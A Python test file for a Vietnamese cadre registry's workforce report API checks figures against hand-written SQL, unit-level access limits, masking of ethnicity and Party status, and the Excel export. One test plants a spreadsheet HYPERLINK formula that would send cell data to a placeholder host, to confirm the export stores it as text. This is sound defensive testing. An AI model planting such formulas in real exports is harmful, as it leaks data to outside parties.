# ruff: noqa: S608 - the hand-written SQL is assembled from this file's own constants
"""The corps report ("đánh giá toàn diện về số lượng, chất lượng đội ngũ cán bộ cơ sở", the
ward Party Committee's plan): its figures equal hand-written SQL over the same data, it sees
only what the read policy opens, and its workbook stores text as text."""

from __future__ import annotations

import datetime as dt
import io
import random
import uuid
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from registry.assignments.models import Assignment
from registry.party.models import PartyEvent, PartyMembership
from registry.persons.models import Person
from registry.positions.models import Position
from registry.qualifications.models import Qualification
from tests.api.helpers import API
from tests.factories import World

ON = dt.date(2026, 6, 30)
RETIRED = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)
PROFESSIONAL = ("trung_cap", "cao_dang", "dai_hoc", "thac_si")
THEORY = ("so_cap", "trung_cap", "cao_cap", "cu_nhan")
STATE = ("can_su", "chuyen_vien", "chuyen_vien_chinh")


def _date(rng: random.Random, first: int, last: int) -> dt.date:
    return dt.date(rng.randint(first, last), rng.randint(1, 12), rng.randint(1, 28))


def build_corps(session: Session, world: World, seed: int = 13) -> dict[str, Any]:
    """People, posts in two units (one a leadership post), and records around ``ON``: held
    and ended posts, posts starting after it, retired rows, qualifications awarded after it,
    memberships official, probationary, admitted after it and ended before it."""
    rng = random.Random(seed)
    units = [world.cell_a, world.office]
    posts = []
    for i, unit in enumerate(units * 2):
        post = Position(
            org_unit_id=unit.id,
            title=f"Chức danh {i}",
            is_leadership=i % 2 == 0,
            headcount=50,
        )
        posts.append(post)
    session.add_all(posts)
    people = []
    for i in range(40):
        year = rng.randint(1962, 2000)
        person = Person(
            org_unit_id=rng.choice(units).id,
            family_name="Lê",
            middle_name="",
            given_name=f"Người {i}",
            search_key=f"le nguoi {i}",
            birth_date=str(year),
            birth_year=year,
            sex=rng.choice("MF"),
            ethnicity_code=rng.choice(("01", "01", "01", "02", "05")),
            religion_code="00",
            death_date=ON - dt.timedelta(days=3) if i == 39 else None,
            life_status="deceased" if i == 39 else "alive",
            retired_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC) if i == 38 else None,
        )
        people.append(person)
    session.add_all(people)
    session.flush()
    for person in people:
        for _ in range(rng.randint(0, 3)):
            start = _date(rng, 2008, 2027)
            end = rng.choice((None, None, start + dt.timedelta(days=rng.randint(10, 4000))))
            session.add(
                Assignment(
                    person_id=person.id,
                    position_id=rng.choice(posts).id,
                    kind="appointment",
                    valid_from=start,
                    valid_to=end,
                    retired_at=RETIRED if rng.random() < 0.1 else None,
                )
            )
        for kind, levels in (
            ("professional", PROFESSIONAL),
            ("political_theory", THEORY),
            ("state_management", STATE),
        ):
            for _ in range(rng.randint(0, 2)):
                session.add(
                    Qualification(
                        person_id=person.id,
                        kind=kind,
                        level=rng.choice(levels),
                        awarded_on=rng.choice((None, _date(rng, 2000, 2027))),
                    )
                )
        if rng.random() < 0.6:
            admitted = _date(rng, 2000, 2027)
            official = rng.choice((None, admitted + dt.timedelta(days=365)))
            status = rng.choice(("official", "probationary", "left"))
            membership = PartyMembership(
                person_id=person.id,
                party_cell_id=world.cell_a.id,
                admitted_on=admitted,
                official_on=official,
                status=status,
            )
            session.add(membership)
            session.flush()
            if status == "left":
                session.add(
                    PartyEvent(
                        membership_id=membership.id,
                        kind="status",
                        from_status="official",
                        to_status="left",
                        effective_on=ON + dt.timedelta(days=rng.choice((-30, 30))),
                    )
                )
    session.commit()
    return {"posts": posts, "people": people}


CORPS = """
WITH corps AS (
    SELECT a.person_id, p.org_unit_id AS unit_id, p.is_leadership, a.valid_from
    FROM assignments a
    JOIN positions p ON p.id = a.position_id
    JOIN persons pe ON pe.id = a.person_id
    WHERE a.retired_at IS NULL AND p.retired_at IS NULL AND pe.retired_at IS NULL
      AND a.valid_from <= :on AND (a.valid_to IS NULL OR a.valid_to >= :on)
      AND (pe.death_date IS NULL OR pe.death_date > :on)
)
"""
RANKS = {
    "professional": "CASE q.level WHEN 'so_cap' THEN 1 WHEN 'trung_cap' THEN 2"
    " WHEN 'cao_dang' THEN 3 WHEN 'dai_hoc' THEN 4 WHEN 'thac_si' THEN 5 WHEN 'tien_si' THEN 6 END",
    "political_theory": "CASE q.level WHEN 'so_cap' THEN 1 WHEN 'trung_cap' THEN 2"
    " WHEN 'cao_cap' THEN 3 WHEN 'cu_nhan' THEN 3 END",
    "state_management": "CASE q.level WHEN 'can_su' THEN 1 WHEN 'chuyen_vien' THEN 2"
    " WHEN 'chuyen_vien_chinh' THEN 3 WHEN 'chuyen_vien_cao_cap' THEN 4 END",
}
CATEGORY_OF_RANK = {
    "professional": {1: "so_cap", 2: "trung_cap", 3: "cao_dang", 4: "dai_hoc", 5: "thac_si"},
    "political_theory": {1: "so_cap", 2: "trung_cap", 3: "cao_cap"},
    "state_management": {1: "can_su", 2: "chuyen_vien", 3: "chuyen_vien_chinh"},
}


def sql(session: Session, query: str, **params: Any) -> list[tuple[Any, ...]]:
    stmt = sa.text(CORPS + query).bindparams(sa.bindparam("on", type_=sa.Date))
    for name, value in params.items():
        if isinstance(value, dt.date):
            stmt = stmt.bindparams(sa.bindparam(name, type_=sa.Date))
    return [tuple(r) for r in session.execute(stmt, {"on": ON, **params})]


def hand_written(session: Session) -> dict[str, Any]:
    """The report's total figures and unit headcounts, from SQL written by hand."""
    out: dict[str, Any] = {}
    out["total"] = sql(session, "SELECT count(DISTINCT person_id) FROM corps")[0][0]
    out["units"] = {
        uuid.UUID(str(u)): n
        for u, n in sql(
            session, "SELECT unit_id, count(DISTINCT person_id) FROM corps GROUP BY unit_id"
        )
    }
    out["kinds"] = {
        ("leadership" if bool(k) else "staff"): n
        for k, n in sql(
            session,
            "SELECT is_leadership, count(DISTINCT person_id) FROM corps GROUP BY is_leadership",
        )
    }
    people = "(SELECT DISTINCT person_id FROM corps) c JOIN persons pe ON pe.id = c.person_id"
    out["sex"] = dict(sql(session, f"SELECT pe.sex, count(*) FROM {people} GROUP BY pe.sex"))
    out["ethnicity"] = dict(
        sql(session, f"SELECT pe.ethnicity_code, count(*) FROM {people} GROUP BY pe.ethnicity_code")
    )
    age = (
        "CASE WHEN :year - pe.birth_year < 30 THEN 'under_30'"
        " WHEN :year - pe.birth_year < 40 THEN '30_39'"
        " WHEN :year - pe.birth_year < 50 THEN '40_49'"
        " WHEN :year - pe.birth_year < 60 THEN '50_59' ELSE '60_plus' END"
    )
    out["age_band"] = dict(
        sql(
            session,
            f"SELECT band, count(*) FROM (SELECT {age} AS band FROM {people}) t GROUP BY band",
            year=ON.year,
        )
    )
    for kind, rank in RANKS.items():
        best = sql(
            session,
            f"SELECT c.person_id, max({rank}) FROM (SELECT DISTINCT person_id FROM corps) c"
            " LEFT JOIN qualifications q ON q.person_id = c.person_id AND q.kind = :kind"
            " AND q.retired_at IS NULL AND (q.awarded_on IS NULL OR q.awarded_on <= :on)"
            " GROUP BY c.person_id",
            kind=kind,
        )
        tally: dict[str, int] = {}
        for _, r in best:
            code = "none" if r is None else CATEGORY_OF_RANK[kind][int(r)]
            tally[code] = tally.get(code, 0) + 1
        out[kind] = tally
    party = (
        "CASE WHEN m.id IS NULL OR m.admitted_on > :on OR m.retired_at IS NOT NULL"
        " OR EXISTS (SELECT 1 FROM party_events e WHERE e.membership_id = m.id"
        "   AND e.to_status IN ('left', 'expelled', 'deceased') AND e.effective_on <= :on)"
        " THEN 'none'"
        " WHEN m.official_on IS NOT NULL AND m.official_on <= :on THEN 'official'"
        " ELSE 'probationary' END"
    )
    out["party_status"] = dict(
        sql(
            session,
            f"SELECT s, count(*) FROM (SELECT {party} AS s FROM (SELECT DISTINCT person_id"
            " FROM corps) c LEFT JOIN party_memberships m ON m.person_id = c.person_id) t"
            " GROUP BY s",
        )
    )
    years = (
        "CASE WHEN start > :y1 THEN 'under_1' WHEN start > :y5 THEN '1_4'"
        " WHEN start > :y10 THEN '5_9' ELSE '10_plus' END"
    )
    out["years_in_post"] = dict(
        sql(
            session,
            f"SELECT {years} AS band, count(*) FROM (SELECT person_id, min(valid_from) AS start"
            " FROM corps GROUP BY person_id) t GROUP BY band",
            y1=ON.replace(year=ON.year - 1),
            y5=ON.replace(year=ON.year - 5),
            y10=ON.replace(year=ON.year - 10),
        )
    )
    return out


def get_report(client: TestClient, world: World, who: str, **params: str) -> dict[str, Any]:
    r = client.get(
        f"{API}/reports/corps", params={"on": ON.isoformat(), **params}, headers=world.auth(who)
    )
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    return body


@pytest.mark.parametrize("seed", [13, 29])
def test_the_corps_figures_equal_hand_written_sql(
    client: TestClient, world: World, session: Session, seed: int
) -> None:
    build_corps(session, world, seed)
    expected = hand_written(session)
    report = get_report(client, world, "admin")
    assert expected["total"] > 10  # the data set is not trivially empty
    assert report["total"] == expected["total"]
    total = report["groups"][0]
    assert total["by"] == "total" and total["headcount"] == expected["total"]
    for name in (
        "sex",
        "ethnicity",
        "age_band",
        "professional",
        "political_theory",
        "state_management",
        "party_status",
        "years_in_post",
    ):
        shown = {code: n for code, n in total["counts"][name].items() if n}
        assert shown == {k: v for k, v in expected[name].items() if v}, name
        assert sum(total["counts"][name].values()) == expected["total"], name
    units = {uuid.UUID(g["key"]): g["headcount"] for g in report["groups"] if g["by"] == "org_unit"}
    assert units == expected["units"]
    kinds = {g["key"]: g["headcount"] for g in report["groups"] if g["by"] == "post_kind"}
    assert {k: v for k, v in kinds.items() if v} == expected["kinds"]
    assert report["masked_fields"] == [] and report["suppressed_below"] is None


def test_a_unit_and_its_subtree_only_and_never_another_units(
    client: TestClient, world: World, session: Session
) -> None:
    build_corps(session, world)
    expected = hand_written(session)
    office = get_report(client, world, "admin", org_unit=str(world.office.id))
    assert office["total"] == expected["units"][world.office.id]
    assert {g["key"] for g in office["groups"] if g["by"] == "org_unit"} == {str(world.office.id)}
    # An officer of cell A sees the posts of cell A only, and not the office by id.
    mine = get_report(client, world, "officer_a")
    assert mine["total"] == expected["units"][world.cell_a.id]
    other = client.get(
        f"{API}/reports/corps",
        params={"org_unit": str(world.office.id)},
        headers=world.auth("officer_a"),
    )
    assert other.status_code == 404


def test_ethnicity_and_party_are_for_those_who_may_see_them_and_small_cells_are_withheld(
    client: TestClient, world: World, session: Session
) -> None:
    build_corps(session, world)
    expected = hand_written(session)
    for who in ("service", "auditor"):
        report = get_report(client, world, who)
        assert set(report["masked_fields"]) == {"ethnicity", "party_status"}
        assert "ethnicity" not in report["categories"]
        total = report["groups"][0]
        assert "party_status" not in total["counts"]
        assert report["suppressed_below"] == 3
        for name, cells in total["counts"].items():
            for code, n in cells.items():
                if who == "auditor":  # reads everything: the same corps as the SQL's
                    real = expected[name].get(code, 0)
                    assert n == (None if 0 < real < 3 else real), (name, code)
                else:  # the committee's subtree only
                    assert n is None or n == 0 or n >= 3, (name, code)
    purpose = client.get(
        f"{API}/reports/corps",
        params={"on": ON.isoformat()},
        headers=world.auth("auditor") | {"X-Purpose": "kiem-tra"},
    )
    assert purpose.json()["masked_fields"] == []


def test_the_workbook_holds_the_same_figures_and_text_as_text(
    client: TestClient, world: World, session: Session
) -> None:
    build_corps(session, world)
    world.office.name = '=HYPERLINK("http://x.invalid/?"&A1,"Văn phòng")'
    session.commit()
    expected = hand_written(session)
    r = client.get(
        f"{API}/reports/corps.xlsx", params={"on": ON.isoformat()}, headers=world.auth("admin")
    )
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["Thông tin", "Theo đơn vị", "Theo loại chức vụ"]
    about = [tuple(row) for row in wb["Thông tin"].iter_rows(values_only=True)]
    assert ("Tính đến ngày", "30/06/2026") in about
    units = list(wb["Theo đơn vị"].iter_rows(values_only=True))
    assert units[0][:3] == ("Nhóm", "Mã", "Tổng số")
    assert units[1][2] == expected["total"]
    by_code = {row[1]: row[2] for row in units[2:]}
    office = next(row for row in units if row[1] == world.office.code)
    assert office[0] == "'" + world.office.name  # a formula-looking name stays text
    assert by_code == {
        world.cell_a.code: expected["units"][world.cell_a.id],
        world.office.code: expected["units"][world.office.id],
    }


def test_a_bad_day_is_a_422_naming_the_parameter(client: TestClient, world: World) -> None:
    for bad in ("2026-02-30", "1800-01-01", "hôm nay"):
        r = client.get(f"{API}/reports/corps", params={"on": bad}, headers=world.auth("admin"))
        assert r.status_code == 422, r.text
        assert {i["field"] for i in r.json()["error"]["issues"]} == {"query.on"}
